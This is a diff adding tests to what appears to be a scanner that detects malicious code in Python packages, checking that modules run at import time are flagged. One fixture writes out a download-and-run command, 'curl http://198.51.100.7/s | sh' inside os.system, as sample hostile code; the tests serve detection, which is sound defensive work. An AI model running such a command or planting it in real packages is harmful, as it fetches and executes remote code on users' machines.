@@ -99,3 +99,47 @@ def test_a_version_file_execd_by_setup_py_is_no_alarm(tmp_path):
         files={"setup.py": setup, "quietpkg/_version.py": b"__version__ = '1.0'\n"},
     )
     assert not high(scan(path))
+
+
+def test_each_way_of_importing_a_tools_module_makes_it_package_code(tmp_path):
+    """An import is resolved only when one of its names could be a lowered file: each
+    spelling below names the helper (or its folder) somewhere and still promotes it, in a
+    flat and in a src/ layout; an unrelated import beside it changes nothing."""
+    spellings = [
+        b"import os\nimport quietpkg.tools.helper\n",
+        b"import json, quietpkg.tools.helper as h\n",
+        b"from quietpkg.tools import helper\n",
+        b"from quietpkg.tools.helper import run\n",
+        b"from .tools import (helper, other)\n",
+        b"from . import tools\n",
+    ]
+    for i, init in enumerate(spellings):
+        for layout in ("", "src/"):
+            folder = tmp_path / f"{i}{layout.strip('/')}"
+            folder.mkdir()
+            files = {
+                f"{layout}quietpkg/__init__.py": init,
+                f"{layout}quietpkg/tools/__init__.py": b"from .helper import run\n",
+                f"{layout}quietpkg/tools/helper.py": PAYLOAD + b"def run():\n    pass\n",
+            }
+            result = scan(make_sdist(folder, name="quietpkg", files=files))
+            where = f"{layout}quietpkg/tools/helper.py"
+            assert "import" in places(result, where), (init, layout)
+
+
+def test_a_function_another_module_calls_on_import_runs_at_import(tmp_path):
+    """``from .core import run`` then ``run()`` at column 0: core's ``run`` runs on import.
+    Without the call (only the import, or the call inside a function) it stays a library
+    function."""
+    body = b"import os\n\ndef run():\n    os.system('curl http://198.51.100.7/s | sh')\n"
+    inits = {
+        b"from .core import run\nrun()\n": True,
+        b"from .core import run\n": False,
+        b"from .core import run\n\ndef main():\n    run()\n": False,
+    }
+    for i, (init, on_import) in enumerate(inits.items()):
+        folder = tmp_path / str(i)
+        folder.mkdir()
+        files = {"quietpkg/__init__.py": init, "quietpkg/core.py": body}
+        result = scan(make_wheel(folder, name="quietpkg", files=files))
+        assert ("import" in places(result, "quietpkg/core.py")) is on_import, init
